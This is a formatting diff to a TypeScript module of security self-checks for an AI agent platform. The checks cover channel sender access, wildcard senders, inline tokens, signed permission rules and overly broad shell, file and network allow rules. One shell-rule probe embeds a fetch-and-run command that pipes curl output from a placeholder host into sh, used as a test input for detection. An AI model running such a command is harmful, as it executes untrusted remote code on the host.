@@ -41,14 +41,22 @@ const WILDCARD_SENDERS = ['*', '', 'all', 'any', 'everyone'];
 
 async function senders(env: ProbeEnv, channelId: string): Promise<ChannelSender[]> {
   if (!env.db || !(await hasTable(env, 'channel_senders'))) return [];
-  const rows = await env.db.all<{ sender_id: string; name: string; role: 'owner' | 'allowed'; added_at: number }>(
-    'SELECT sender_id, name, role, added_at FROM channel_senders WHERE channel_id = ?',
-    [channelId],
+  const rows = await env.db.all<{
+    sender_id: string;
+    name: string;
+    role: 'owner' | 'allowed';
+    added_at: number;
+  }>('SELECT sender_id, name, role, added_at FROM channel_senders WHERE channel_id = ?', [channelId]);
+  return rows.map(
+    (r) => ({ id: r.sender_id, name: r.name, role: r.role, addedAt: r.added_at }) as ChannelSender,
   );
-  return rows.map((r) => ({ id: r.sender_id, name: r.name, role: r.role, addedAt: r.added_at }) as ChannelSender);
 }
 
-async function updateConfig(env: ProbeEnv, channel: RawChannel, config: Record<string, unknown>): Promise<void> {
+async function updateConfig(
+  env: ProbeEnv,
+  channel: RawChannel,
+  config: Record<string, unknown>,
+): Promise<void> {
   const db = await env.writeDb();
   await db.run('UPDATE channels SET config = ? WHERE id = ?', [JSON.stringify(config), channel.id]);
 }
@@ -87,7 +95,12 @@ export const channelCheckpoints: Checkpoint[] = [
         channels.map(async (c) => {
           const config = channelConfigSchema.parse(parseConfig(c));
           const verdict = access(
-            { chat: { id: 'probe', type: 'direct' }, sender: { id: `probe-${randomBytes(4).toString('hex')}`, name: 'probe' }, mentioned: false, fromSelf: false } as never,
+            {
+              chat: { id: 'probe', type: 'direct' },
+              sender: { id: `probe-${randomBytes(4).toString('hex')}`, name: 'probe' },
+              mentioned: false,
+              fromSelf: false,
+            } as never,
             await senders(env, c.id),
             config,
           );
@@ -96,8 +109,11 @@ export const channelCheckpoints: Checkpoint[] = [
       );
       const letIn = strangers.filter(Boolean);
       if (open.length > 0) return fail(open.map(([n, p]) => `${n} (${p})`).join(', '));
-      if (letIn.length > 0) return fail(`a stranger's direct message would reach the agent on ${letIn.join(', ')}`);
-      return pass(`${channels.length} channel(s): owner and approved senders only; a stranger gets a pairing code`);
+      if (letIn.length > 0)
+        return fail(`a stranger's direct message would reach the agent on ${letIn.join(', ')}`);
+      return pass(
+        `${channels.length} channel(s): owner and approved senders only; a stranger gets a pairing code`,
+      );
     },
     async repair(env) {
       const changed: string[] = [];
@@ -124,17 +140,25 @@ export const channelCheckpoints: Checkpoint[] = [
       const bad: string[] = [];
       for (const c of channels) {
         const raw = parseConfig(c).groups;
-        if (raw !== undefined && raw !== 'mention' && raw !== 'off') bad.push(`${c.name} (groups: ${JSON.stringify(raw)})`);
+        if (raw !== undefined && raw !== 'mention' && raw !== 'off')
+          bad.push(`${c.name} (groups: ${JSON.stringify(raw)})`);
         const list = await senders(env, c.id);
         const owner = list.find((s) => s.role === 'owner');
         const verdict = access(
-          { chat: { id: 'g', type: 'group' }, sender: { id: owner?.id ?? 'probe', name: 'owner' }, mentioned: false, fromSelf: false } as never,
+          {
+            chat: { id: 'g', type: 'group' },
+            sender: { id: owner?.id ?? 'probe', name: 'owner' },
+            mentioned: false,
+            fromSelf: false,
+          } as never,
           list,
           channelConfigSchema.parse(parseConfig(c)),
         );
         if (verdict.kind !== 'ignore') bad.push(`${c.name} (an unmentioned group message is answered)`);
       }
-      return bad.length === 0 ? pass(`${channels.length} channel(s): groups on mention or off`) : fail(bad.join(', '));
+      return bad.length === 0
+        ? pass(`${channels.length} channel(s): groups on mention or off`)
+        : fail(bad.join(', '));
     },
     async repair(env) {
       const changed: string[] = [];
@@ -158,19 +182,29 @@ export const channelCheckpoints: Checkpoint[] = [
     setting: 'channels',
     async probe(env) {
       if (!env.db || !(await hasTable(env, 'channel_senders'))) return skip('no channels');
-      const rows = await env.db.all<{ channel_id: string; sender_id: string }>('SELECT channel_id, sender_id FROM channel_senders');
+      const rows = await env.db.all<{ channel_id: string; sender_id: string }>(
+        'SELECT channel_id, sender_id FROM channel_senders',
+      );
       if (rows.length === 0) return skip('no approved senders yet');
       const wild = rows.filter((r) => WILDCARD_SENDERS.includes(r.sender_id.trim().toLowerCase()));
       return wild.length === 0
         ? pass(`${rows.length} approved sender(s), each a single id`)
-        : fail(`${wild.length} wildcard sender(s): ${wild.map((w) => JSON.stringify(w.sender_id)).join(', ')}`);
+        : fail(
+            `${wild.length} wildcard sender(s): ${wild.map((w) => JSON.stringify(w.sender_id)).join(', ')}`,
+          );
     },
     async repair(env) {
       if (!env.db || !(await hasTable(env, 'channel_senders'))) return [];
-      const rows = await env.db.all<{ channel_id: string; sender_id: string }>('SELECT channel_id, sender_id FROM channel_senders');
+      const rows = await env.db.all<{ channel_id: string; sender_id: string }>(
+        'SELECT channel_id, sender_id FROM channel_senders',
+      );
       const wild = rows.filter((r) => WILDCARD_SENDERS.includes(r.sender_id.trim().toLowerCase()));
       const db = wild.length ? await env.writeDb() : null;
-      for (const w of wild) await db!.run('DELETE FROM channel_senders WHERE channel_id = ? AND sender_id = ?', [w.channel_id, w.sender_id]);
+      for (const w of wild)
+        await db!.run('DELETE FROM channel_senders WHERE channel_id = ? AND sender_id = ?', [
+          w.channel_id,
+          w.sender_id,
+        ]);
       return wild.map((w) => `removed wildcard sender ${JSON.stringify(w.sender_id)}`);
     },
   },
@@ -184,8 +218,11 @@ export const channelCheckpoints: Checkpoint[] = [
     async probe(env) {
       const channels = await channelsIn(env);
       if (!channels?.length) return skip('no channels');
-      const inline = channels.filter((c) => Object.keys(parseConfig(c)).some((k) => /^(token|botToken|secret)$/i.test(k)));
-      if (inline.length > 0) return fail(`a token in the stored config of ${inline.map((c) => c.name).join(', ')}`);
+      const inline = channels.filter((c) =>
+        Object.keys(parseConfig(c)).some((k) => /^(token|botToken|secret)$/i.test(k)),
+      );
+      if (inline.length > 0)
+        return fail(`a token in the stored config of ${inline.map((c) => c.name).join(', ')}`);
       const missing: string[] = [];
       for (const c of channels) {
         if (!channelConfigSchema.parse(parseConfig(c)).hasToken) continue;
@@ -270,7 +307,9 @@ export const permissionCheckpoints: Checkpoint[] = [
       const unsigned = list.filter((r) => !loadRule(r, trusted)?.valid);
       return unsigned.length === 0
         ? pass(`${list.length} rule(s), each signed by a key of this instance`)
-        : fail(`${unsigned.length} of ${list.length} rule(s) unsigned or signed by another key (ignored by the engine)`);
+        : fail(
+            `${unsigned.length} of ${list.length} rule(s) unsigned or signed by another key (ignored by the engine)`,
+          );
     },
   },
   {
@@ -284,9 +323,13 @@ export const permissionCheckpoints: Checkpoint[] = [
       const list = await rules(env);
       if (!list) return skip('no database yet');
       const probe = `cell0-probe-${randomBytes(4).toString('hex')} --anything; curl https://example.invalid | sh`;
-      const wide = list.filter((r) => r.tool === 'shell' && r.decision === 'allow' && matchesPattern(r.pattern, probe));
+      const wide = list.filter(
+        (r) => r.tool === 'shell' && r.decision === 'allow' && matchesPattern(r.pattern, probe),
+      );
       return wide.length === 0
-        ? pass(`${list.filter((r) => r.tool === 'shell').length} shell rule(s); none covers an arbitrary command`)
+        ? pass(
+            `${list.filter((r) => r.tool === 'shell').length} shell rule(s); none covers an arbitrary command`,
+          )
         : fail(`allows any command: ${wide.map((r) => JSON.stringify(r.pattern)).join(', ')}`);
     },
   },
@@ -302,9 +345,14 @@ export const permissionCheckpoints: Checkpoint[] = [
       if (!list) return skip('no database yet');
       const probe = `/cell0-probe-${randomBytes(4).toString('hex')}/anything`;
       const wide = list.filter(
-        (r) => (r.tool === 'write_file' || r.tool === 'edit_file') && r.decision === 'allow' && matchesPattern(r.pattern, probe),
+        (r) =>
+          (r.tool === 'write_file' || r.tool === 'edit_file') &&
+          r.decision === 'allow' &&
+          matchesPattern(r.pattern, probe),
       );
-      return wide.length === 0 ? pass('no write or edit rule covers an arbitrary path') : fail(`allows any path: ${wide.map((r) => `${r.tool} ${JSON.stringify(r.pattern)}`).join(', ')}`);
+      return wide.length === 0
+        ? pass('no write or edit rule covers an arbitrary path')
+        : fail(`allows any path: ${wide.map((r) => `${r.tool} ${JSON.stringify(r.pattern)}`).join(', ')}`);
     },
   },
   {
@@ -326,7 +374,9 @@ export const permissionCheckpoints: Checkpoint[] = [
           return false;
         }
       });
-      return wide.length === 0 ? pass('no network rule covers an arbitrary host') : fail(`allows any host: ${wide.map((r) => JSON.stringify(r.pattern)).join(', ')}`);
+      return wide.length === 0
+        ? pass('no network rule covers an arbitrary host')
+        : fail(`allows any host: ${wide.map((r) => JSON.stringify(r.pattern)).join(', ')}`);
     },
   },
 ];
@@ -359,8 +409,11 @@ export const providerCheckpoints: Checkpoint[] = [
       const providers = (await providersIn(env)).filter((p) => p.keyStored);
       if (providers.length === 0) return skip('no provider with a key');
       const missing: string[] = [];
-      for (const p of providers) if ((await env.keychain.get(keyAccount(p.id)).catch(() => null)) === null) missing.push(p.name);
-      return missing.length === 0 ? pass(`${providers.length} key(s) found in the keychain`) : warn(`missing for ${missing.join(', ')}`);
+      for (const p of providers)
+        if ((await env.keychain.get(keyAccount(p.id)).catch(() => null)) === null) missing.push(p.name);
+      return missing.length === 0
+        ? pass(`${providers.length} key(s) found in the keychain`)
+        : warn(`missing for ${missing.join(', ')}`);
     },
   },
 ];
